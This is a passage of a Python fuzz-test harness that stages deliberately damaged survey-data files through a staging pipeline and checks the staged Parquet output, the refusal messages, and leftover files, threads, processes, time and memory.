    if set(damage) & {"many_columns", "big_cell", "odd_cells", "formulas", "other_headings", "headings_repeated"}:
        count = None  # a cell may have been too much for the format, or made of line ends
    return Case(shape, name, data, damage, count, block)


def run(case: Case, folder: Path) -> tuple[str, list[str], float, int]:
    """Stage a case: what came of it, what is wrong with that, seconds, and bytes at most in memory."""
    into, beside = folder / "staged", folder / "raw"
    into.mkdir()
    beside.mkdir()
    path = beside / case.name
    path.write_bytes(case.data)
    delivery = Delivery("fuzz", path, hashlib.sha256(case.data).hexdigest(), "2021")
    agreed, measures = _contract(case.shape.name), _measures()
    gc.collect()
    files, threads = _open_files(), set(threading.enumerate())
    children = _ended_children()
    _forget_peak()
    began = time.monotonic()
    facts: dict[str, Any] = {}
    try:
        with _read_by(case.block, len(case.data)) as settings:
            facts = stage(settings, delivery, agreed, measures, KEY, into)
        came, faults = "staged", list[str]()
    except DeliveryRefused as refused:
        came, faults = f"refused: {refused}", list(unclear(str(refused), case.name))
        if left := [file.name for file in into.iterdir()]:
            faults.append(f"left {left} behind")
    except Exception:
        came, faults = "raised", [traceback.format_exc()]
    seconds, peak = time.monotonic() - began, _peak()
    if _ended_children() > children:  # one of them held more than any before
        peak += _ended_children()
    gc.collect()
    if left := [file for handle, file in _open_files().items() if files.get(handle) != file]:
        faults.append(f"left open: {left}")
    if left := [thread.name for thread in threading.enumerate() if thread not in threads]:
        faults.append(f"left running: {left}")
    with suppress(ChildProcessError):  # raised where there is none
        faults.append(f"left a process running: {os.waitpid(-1, os.WNOHANG)}")
    if facts:
        faults += unbalanced(into, facts, agreed, measures, case.rows)
    if seconds > SECONDS:
        faults.append(f"took {seconds:.0f} s")
    if peak > MEMORY:
        faults.append(f"held {peak / (1 << 30):.1f} GiB")
    if [file.name for file in beside.iterdir()] != [case.name] or {f.name for f in folder.iterdir()} != {
        "staged",
        "raw",
    }:
        faults.append("left files beside the delivery")
    return came, faults, seconds, peak


@contextmanager
def _read_by(block: int, size: int) -> Iterator[Settings]:
    """Settings to stage with: in one piece, or in several side by side, each of several blocks."""
    if not block:
        yield replace(load(), threads=1)
        return
    with ExitStack() as changes:
        changes.enter_context(patch.object(text_reader, "BLOCK", block))
        changes.enter_context(patch.object(sheet_reader, "BLOCK", block))
        changes.enter_context(patch.object(text_reader, "PIECE", size // 4))
        changes.enter_context(patch.object(delimited_reader, "LONG", 1))
        yield replace(load(), threads=2)


@functools.cache
def _contract(shape: str) -> Contract:
    return Contract.model_validate(next(s.contract for s in shapes() if s.name == shape))


@functools.cache
def _measures() -> dict[str, reference.Measure]:
    lists = reference.load(load().raw, {})
    return {code: reference.measure(lists, code, "fuzz") for code in ("channel_rating", "recommendation")}


@functools.cache
def _checker() -> duckdb.DuckDBPyConnection:
    return duckdb.connect(config={"threads": 1})


def unclear(sentence: str, file: str) -> Iterator[str]:
    """What is wrong with a sentence."""
    if file not in sentence:
        yield "the sentence does not name the file"
    if MARK in sentence.lower():
        yield "the sentence quotes a cell"
    if not sentence.replace("\t", "").isprintable() or len(sentence) > LONGEST_SENTENCE:
        yield f"no sentence of one line: {len(sentence):,} characters"
    if not sentence.endswith((".", "?")):
        yield "the sentence has no end"


def unbalanced(
    folder: Path, facts: dict[str, Any], agreed: Contract, measures: dict[str, reference.Measure], rows: int | None
) -> Iterator[str]:
    """What does not add up in the staged files, each of which is read again."""
    if found := {file.name for file in folder.iterdir()} ^ {f"{stem}.parquet" for stem in facts["rows"]}:
        yield f"other files than it says: {sorted(found)}"
        return
    asked = cells(agreed)
    con = _checker()

    def all_of(sql: str) -> list[tuple[Any, ...]]:
        return con.execute(sql).fetchall()

    for stem in facts["rows"]:
        con.execute(f"CREATE OR REPLACE VIEW {stem} AS FROM read_parquet('{folder / stem}.parquet')")
        texts = [n for n, t in ((r[0], r[1]) for r in all_of(f"DESCRIBE {stem}")) if t == "VARCHAR"]
        held = " OR ".join(f"contains(lower({name}), '{MARK}')" for name in texts)
        if shown := all_of(f"SELECT count(*) FROM {stem} WHERE {held}")[0][0]:
            yield f"{stem}.parquet holds a marked cell in {shown} rows"
    row = dict(all_of("SELECT state, sum(n)::BIGINT FROM receipt WHERE kind = 'row' GROUP BY state"))
    cell = dict(all_of("SELECT state, sum(n)::BIGINT FROM receipt WHERE kind = 'cell' GROUP BY state"))
    ((responses, ids, not_asked),) = all_of(
        "SELECT count(*), count(DISTINCT response_id), coalesce(sum(n_not_asked), 0)::BIGINT FROM response"
    )
    answers = Counter(dict(all_of("SELECT coalesce(missing_reason, 'answer'), count(*) FROM answer GROUP BY 1")))
    ((of_rows, of_cells),) = all_of("SELECT count(*) FILTER (question IS NULL), count(question) FROM quarantine")
    values = all_of("SELECT measure_code, min(value), max(value) FROM answer WHERE missing_reason IS NULL GROUP BY ALL")
    wrong = all_of("SELECT count(*) FROM answer WHERE (value IS NULL) <> (missing_reason IS NOT NULL)")[0][0]
    strangers = all_of("SELECT count(*) FROM answer ANTI JOIN response USING (row_number, response_id)")[0][0]
    accepted = row.get("accepted", 0)
    read = sum(row.values())
    written = {stem: facts["rows"][stem] for stem in ("answer", "response", "quarantine")}
    balances = {
        "states of rows": (set(row) <= {"accepted", "excluded", "refused", "superseded"}, True),
        "rows read and rows delivered": (read, read if rows is None else rows),
        "accepted rows and responses": (accepted, responses),
        "responses and their ids": (responses, ids),
        "cells and accepted rows times questions": (sum(cell.values()), accepted * len(asked)),
        "answers with those not asked, and cells": (answers.total() + not_asked, accepted * len(asked)),
        "cells not asked": (cell.pop("not_asked", 0), not_asked),
        "cells by reason, in receipt and answers": (cell, dict(answers)),
        "refused rows in quarantine": (of_rows, row.get("refused", 0)),
        "quarantined cells in quarantine": (of_cells, cell.get("quarantined", 0)),
        "answers with both or neither of value and reason": (wrong, 0),
        "answers without a response": (strangers, 0),
        "what staging says it wrote": (
            written, {"answer": answers.total(), "response": responses, "quarantine": of_rows + of_cells},
        ),
    }  # fmt: skip
    for what, (one, other) in balances.items():
        if one != other:
            yield f"{what}: {one} is not {other}"
    for measure, low, high in values:
        step = 10 ** measures[measure].decimals
        if low < measures[measure].scale_min * step or high > measures[measure].scale_max * step:
            yield f"{measure}: {low} to {high} lies outside its scale"


def _open_files(process: int | str = "self") -> dict[str, str]:
    """What each handle of a process stands for; nothing where that cannot be asked."""
    folder, files = Path(f"/proc/{process}/fd"), {}
    for handle in folder.iterdir() if folder.is_dir() else ():
        with suppress(OSError):  # the handle of this very question
            files[handle.name] = str(handle.readlink())
    return files


def _forget_peak() -> None:
    reset = Path("/proc/self/clear_refs")
    if reset.exists():
        reset.write_text("5")


def _peak() -> int:
    """The most memory that this process held since the last reset; since its start where that cannot be reset."""
    return _memory("self", "VmHWM") or resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * UNIT


def _ended_children() -> int:
    """The most memory that one of the processes held that this one started, and that have ended."""
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * UNIT


def _family(process: int) -> list[int]:
    """A process and those that it started, as long as they live."""
    family = [process]
    for one in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            number, parent = one.parent.name, one.read_text().rpartition(")")[2].split()[1]
            if int(parent) == process:
                family.append(int(number))
    return family


def _held(process: int) -> int:
    """The memory that a process holds now, its files in memory included."""
    held = 0
    with suppress(OSError):
        held += _memory(process, "VmRSS")
        for handle, file in _open_files(process).items():
            if file.startswith("/memfd:"):
                held += Path(f"/proc/{process}/fd/{handle}").stat().st_size
    return held


def _memory(process: int | str, what: str) -> int:
    status = Path(f"/proc/{process}/status")
    found = re.search(rf"{what}:\s+(\d+) kB", status.read_text()) if status.exists() else None
    return int(found[1]) * 1024 if found else 0


# --- many cases ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Result:
    seed: int
    number: int
    shape: str
    damage: list[str]
    came: str
    faults: list[str]
    seconds: float = 0.0
    peak: int = 0

    def __str__(self) -> str:
        steps = " + ".join(self.damage) or "nothing"
        said = "\n  ".join([*self.faults, self.came[: 2 * LONGEST_SENTENCE]])
        again = f"python -m tests.fuzz --seed {self.seed} --case {self.number}"
        return f"seed {self.seed}, case {self.number} ({self.shape}, {steps}):\n  {said}\n  {again}"


Work = Callable[[Connection, int], None]


def _work(pipe: Connection, seed: int) -> None:
    """The process in which cases are staged: gets numbers, tells when staging starts and what came of it."""
    os.setsid()  # whoever ends it ends what it started too
    with tempfile.TemporaryDirectory() as warm:  # what is opened once and kept is open before anybody counts
        for i, shape in enumerate(shapes()):
            (Path(warm) / str(i)).mkdir()
            run(Case(shape, f"fuzz_2021{shape.suffix}", shape.good, [], ROWS), Path(warm) / str(i))
    gc.freeze()  # what is looked through after each case is what the case made
    pipe.send("ready")
    while (number := pipe.recv()) is not None:
        with tempfile.TemporaryDirectory() as folder:
            case = make(seed, number)
            pipe.send((case.shape.name, case.damage))
            pipe.send(run(case, Path(folder)))
    gc.unfreeze()  # the engine complains at the end about what it cannot see


class Watched:
    """That process, seen from outside. It is started again after a case that killed it or had it killed."""

    def __init__(
        self, seed: int, work: Work = _work, seconds: float = SECONDS, memory: int = MEMORY, look: float = 0.1
    ) -> None:
        self.seed, self.work, self.seconds, self.memory, self.look = seed, work, seconds, memory, look
        self.process: Any = None

    def __enter__(self) -> Watched:
        return self

    def __exit__(self, *_: object) -> None:
        if self.process:
            self.pipe.send(None)
            self.process.join(10)
            self._end()

    def try_(self, number: int) -> Result:
        if self.process is None:
            context = multiprocessing.get_context("spawn")
            self.pipe, theirs = context.Pipe()
            self.process = context.Process(target=self.work, args=(theirs, self.seed), daemon=True)
            self.process.start()
            theirs.close()
            self._told(GENERATING)
        self.pipe.send(number)
        shape, damage = "?", ["being written"]
        self.most = 0
        try:
            shape, damage = self._told(GENERATING)
            came, faults, seconds, peak = self._told(self.seconds, self.memory)
            return Result(self.seed, number, shape, damage, came, faults, seconds, max(peak, self.most))
        except (TimeoutError, MemoryError) as too_much:
            fault = str(too_much)
        except (EOFError, ConnectionError):
            self.process.join(5)
            fault = f"the process died with {self.process.exitcode}"
        self._end()
        return Result(self.seed, number, shape, damage, "", [fault], peak=self.most)

    def _told(self, seconds: float, memory: int | None = None) -> Any:
        """What the process says next. It is looked at until then: `seconds` and `memory` are all it may take."""
        began = time.monotonic()
        while not self.pipe.poll(self.look):
            if time.monotonic() - began > seconds:
                raise TimeoutError(f"not done after {seconds:.0f} s")
            if memory is not None:
                self.most = max(self.most, sum(map(_held, _family(self.process.pid))))
                if self.most > memory:
                    raise MemoryError(f"held more than {memory / (1 << 30):.1f} GiB")
        return self.pipe.recv()

    def _end(self) -> None:
        with suppress(ProcessLookupError):
            os.killpg(self.process.pid, signal.SIGKILL)
        self.process.kill()  # where it has no group of its own yet
        self.process.join()
        self.pipe.close()
        self.process = None


def fuzz(seed: int, numbers: Sequence[int]) -> Iterator[Result]:
    with Watched(seed) as watched:
        for number in numbers:
            yield watched.try_(number)


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.fuzz", description="Damaged deliveries, staged.")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--case", type=int, help="one case again; its delivery is kept")
    parser.add_argument("--cases", type=int, default=200)
    parser.add_argument("--first", type=int, default=0)
    asked = parser.parse_args()
    if asked.case is not None:
        case = make(asked.seed, asked.case)
        kept = Path(tempfile.mkdtemp(prefix="fuzz-")) / case.name
        kept.write_bytes(case.data)
        print(f"{kept} ({len(case.data):,} bytes)")
        (result,) = fuzz(asked.seed, [asked.case])
        print(result)
        print(f"{result.seconds:.2f} s, {result.peak >> 20} MiB")
        return bool(result.faults)
    began, results = dt.datetime.now(), []
    for result in fuzz(asked.seed, range(asked.first, asked.first + asked.cases)):
        results.append(result)
        if result.faults:
            print(result, flush=True)
    for name in dict.fromkeys(result.shape for result in results):
        of = [result for result in results if result.shape == name]
        staged = sum(result.came == "staged" for result in of)
        print(
            f"{name:22} {len(of):5} cases {staged:5} staged {len(of) - staged:5} not; "
            f"slowest {max(r.seconds for r in of):5.1f} s, most memory {max(r.peak for r in of) >> 20:5} MiB"
        )
    for result in sorted(results, key=lambda result: -result.seconds)[:3]:
        print(f"{result.seconds:.1f} s: case {result.number} ({result.shape}, {' + '.join(result.damage)})")
    faulty = sum(bool(result.faults) for result in results)
    print(f"{len(results)} cases in {(dt.datetime.now() - began).total_seconds():.0f} s, {faulty} with a fault")
    return bool(faulty)


if __name__ == "__main__":
    sys.exit(main())
